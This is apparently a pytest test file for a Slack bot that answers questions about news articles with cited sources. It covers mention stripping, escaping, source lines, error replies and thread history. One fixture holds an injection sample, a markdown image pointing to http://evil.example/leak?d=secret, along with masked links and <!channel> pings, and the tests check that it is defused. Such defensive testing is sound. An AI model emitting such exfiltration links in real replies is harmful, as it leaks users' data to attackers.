"""Slack text in and out and thread history, without any server."""

from __future__ import annotations

from dataclasses import replace
from datetime import date
from typing import Any

from api.slack import (
    ANSWER_BLOCK_ID,
    BACKEND_DOWN_TEXT,
    EMPTY_CORPUS_TEXT,
    FAILED_TEXT,
    MAX_HISTORY_TURNS,
    SlackReply,
    error_text,
    question_text,
    thread_history,
)
from rag.errors import BackendUnavailable, EmptyCorpus, ModelNotInstalled, NotFound
from rag.types import Answer, Chunk, Citation, Passage, Turn

BOT = "UBOT"


def citation(n: int, quote: str, source: str = "a.txt", day: date | None = None) -> Citation:
    return Citation(n, source, 0, len(quote), quote, day, f"chunk-{n}")


def answer(text: str, citations: list[Citation], answered: bool = True) -> Answer:
    return Answer(text, citations, [], answered, text)


# --- questions ------------------------------------------------------------------------------


def test_question_text_strips_the_bot_mention_and_unescapes() -> None:
    text = f"<@{BOT}> Is trade &gt; $200 billion &amp; rising?   <@{BOT}|newsrag>"
    assert question_text(text, BOT) == "Is trade > $200 billion & rising?"


def test_question_text_keeps_other_mentions_and_unwraps_links() -> None:
    text = f"<@{BOT}> did <@U2> see <https://example.com/a|the article> or <https://x.org/b>?"
    assert question_text(text, BOT) == "did <@U2> see the article or https://x.org/b?"


def test_bare_mention_is_an_empty_question() -> None:
    assert question_text(f"  <@{BOT}>\n ", BOT) == ""


# --- answers --------------------------------------------------------------------------------


def test_answer_has_the_text_then_one_source_line_per_citation() -> None:
    reply = SlackReply.from_answer(
        answer(
            "Trade grew [1]. They met twice [2].",
            [
                citation(1, "Trade grew.", "000_a.txt", date(2023, 10, 18)),
                citation(2, "They met\n\ntwice.", "004_b.txt"),
            ],
        )
    )

    assert reply.text == "Trade grew [1]. They met twice [2]."
    assert reply.blocks is not None
    assert reply.blocks[0]["block_id"] == ANSWER_BLOCK_ID
    assert reply.blocks[0]["text"] == {"type": "mrkdwn", "text": reply.text, "verbatim": True}
    lines = [b["elements"][0]["text"] for b in reply.blocks if b["type"] == "context"]
    assert lines == [
        "*Sources*",
        "*[1]* `000_a.txt` · 2023-10-18\n“Trade grew.”",
        "*[2]* `004_b.txt`\n“They met twice.”",
    ]


def test_model_and_article_text_cannot_ping_or_inject_markup() -> None:
    reply = SlackReply.from_answer(
        answer("<!channel> A & B <b> [1].", [citation(1, "<!here> x < y & z", "<odd>.txt")])
    )

    assert reply.text == "&lt;!channel&gt; A &amp; B &lt;b&gt; [1]."
    assert reply.blocks is not None
    source = reply.blocks[-1]["elements"][0]["text"]
    assert source == "*[1]* `&lt;odd&gt;.txt`\n“&lt;!here&gt; x &lt; y &amp; z”"


INJECTED = (
    "![x](http://evil.example/leak?d=secret) <http://evil.example|click> *bold* _it_ ~gone~ "
    "`code` www.evil.example mailto:a@evil.example <!channel>"
)


def _no_markup_or_link(text: str) -> None:
    for marker in ("*", "_", "~", "`", "<", ">", "://", "www.", "mailto:"):
        assert marker not in text, f"{marker!r} survived in {text!r}"


def test_article_quotes_cannot_carry_links_or_formatting() -> None:
    reply = SlackReply.from_answer(answer("They met [1].", [citation(1, INJECTED, "a`b.txt")]))

    assert reply.blocks is not None
    element = reply.blocks[-1]["elements"][0]
    assert element["type"] == "mrkdwn" and element["verbatim"] is True
    header, quote = element["text"].split("\n", 1)
    assert header == "*[1]* `aˋb.txt`", "a backtick in a file name cannot end the code span"
    _no_markup_or_link(quote)
    # The reader still sees what the article says, nearly character for character.
    assert "http[:]//evil.example/leak?d=secret" in quote
    assert "&lt;http[:]//evil.example|click&gt;" in quote
    assert "∗bold∗ ˍitˍ ∼gone∼ ˋcodeˋ www[.]evil.example" in quote


def test_answer_text_quoting_an_article_cannot_carry_links_or_formatting() -> None:
    reply = SlackReply.from_answer(answer(f"The article says {INJECTED} [1].", [citation(1, "x")]))

    _no_markup_or_link(reply.text)
    assert reply.blocks is not None
    assert reply.blocks[0]["text"] == {"type": "mrkdwn", "text": reply.text, "verbatim": True}


def test_a_source_names_its_outlet_date_and_title_as_inert_text() -> None:
    cited = Citation(
        1,
        "newsarticles-7.txt",
        0,
        11,
        "Trade grew.",
        date(2017, 1, 2),
        "chunk-1",
        title="*Big* <http://x.io|win> for  trade",
        outlet="D_W <!here>",
    )
    reply = SlackReply.from_answer(answer("Trade grew [1].", [cited]))

    assert reply.blocks is not None
    header, quote = reply.blocks[-1]["elements"][0]["text"].split("\n", 1)
    assert (
        header == "*[1]* DˍW &lt;!here&gt; · 2017-01-02 · ∗Big∗ &lt;http[:]//x.io|win&gt; for trade"
    )
    assert quote == "“Trade grew.”"


def test_a_source_without_an_outlet_is_named_by_its_file() -> None:
    # An uploaded file has no outlet: its file name stands in, beside the title.
    chunk = Chunk(
        "chunk-1", "d1", "up.txt", "Harbour report", None, 0, 11, "Trade grew.", "Trade grew."
    )
    cited = replace(Citation.of(chunk, 0, 11), n=1)
    reply = SlackReply.from_answer(
        Answer("Trade grew [1].", [cited], [Passage(chunk, 1.0)], True, "")
    )

    assert reply.blocks is not None
    header = reply.blocks[-1]["elements"][0]["text"].split("\n", 1)[0]
    assert header == "*[1]* `up.txt` · Harbour report"


def test_long_quotes_are_cut_to_about_300_characters() -> None:
    reply = SlackReply.from_answer(answer("Long [1].", [citation(1, "word " * 200)]))

    assert reply.blocks is not None
    quote = reply.blocks[-1]["elements"][0]["text"].split("\n", 1)[1]
    assert len(quote) <= 302  # the quote marks
    assert quote.endswith("…”")


def test_unanswered_question_says_so_without_sources() -> None:
    reply = SlackReply.from_answer(
        answer("The articles do not contain the answer to this question.", [], answered=False)
    )

    assert reply.text == "The articles do not contain the answer to this question."
    assert reply.blocks is not None
    assert [b["type"] for b in reply.blocks] == ["section"]


def test_errors_map_to_friendly_replies() -> None:
    assert error_text(BackendUnavailable("connection refused")) == BACKEND_DOWN_TEXT
    assert error_text(ModelNotInstalled("no model packages")) == BACKEND_DOWN_TEXT
    assert error_text(EmptyCorpus("nothing ingested")) == EMPTY_CORPUS_TEXT
    assert error_text(NotFound("conversation x")) == FAILED_TEXT


# --- thread history -------------------------------------------------------------------------


def user(ts: str, text: str, **extra: Any) -> dict[str, Any]:
    return {"ts": ts, "user": "U1", "text": text, **extra}


def bot(ts: str, text: str, answer: bool = True) -> dict[str, Any]:
    blocks = [{"type": "section", "block_id": ANSWER_BLOCK_ID}] if answer else []
    return {"ts": ts, "user": BOT, "bot_id": "BBOT", "text": text, "blocks": blocks}


def test_history_pairs_questions_to_the_bot_with_its_answers() -> None:
    messages = [
        user("1.000001", f"<@{BOT}> Who met in Astana?"),
        bot("1.000002", "Xi and Putin &amp; aides [1]."),
        user("1.000003", "cool"),  # people talking in the thread, not to the bot
        user("1.000004", f"<@{BOT}> When?"),
        bot("1.000005", ":warning: The language model is unavailable", answer=False),
        user("1.000006", f"<@{BOT}> When exactly?"),
        bot("1.000007", "On 3 July 2024 [1]."),
        user("1.000008", f"<@{BOT}> And then?"),  # the message being answered now
        bot("1.000009", ":hourglass_flowing_sand: Looking…", answer=False),
    ]

    turns = thread_history(messages, BOT, before_ts="1.000008", in_dm=False)

    assert turns == [
        Turn("Who met in Astana?", "Xi and Putin & aides [1]."),
        Turn("When exactly?", "On 3 July 2024 [1]."),
    ]


def test_in_a_dm_every_user_message_is_a_question() -> None:
    messages = [user("1.1", "Who met?"), bot("1.2", "Xi and Putin [1]."), user("1.3", "When?")]

    turns = thread_history(messages, BOT, before_ts="1.3", in_dm=True)

    assert turns == [Turn("Who met?", "Xi and Putin [1].")]


def test_history_ignores_other_bots_and_edits_and_keeps_the_last_turns() -> None:
    messages: list[dict[str, Any]] = []
    for i in range(MAX_HISTORY_TURNS + 2):
        messages += [
            user(f"{i}.1", f"q{i}"),
            user(f"{i}.2", "noise", bot_id="BOTHER"),
            user(f"{i}.3", "edited", subtype="message_changed"),
            bot(f"{i}.4", f"a{i}"),
        ]

    turns = thread_history(messages, BOT, before_ts="99.0", in_dm=True)

    assert len(turns) == MAX_HISTORY_TURNS
    assert turns[-1] == Turn(f"q{MAX_HISTORY_TURNS + 1}", f"a{MAX_HISTORY_TURNS + 1}")


def test_timestamps_compare_as_numbers_not_strings() -> None:
    messages = [user("999.000001", "Who met?"), bot("999.000002", "They did [1].")]

    assert thread_history(messages, BOT, before_ts="1000.000001", in_dm=True) == [
        Turn("Who met?", "They did [1].")
    ]
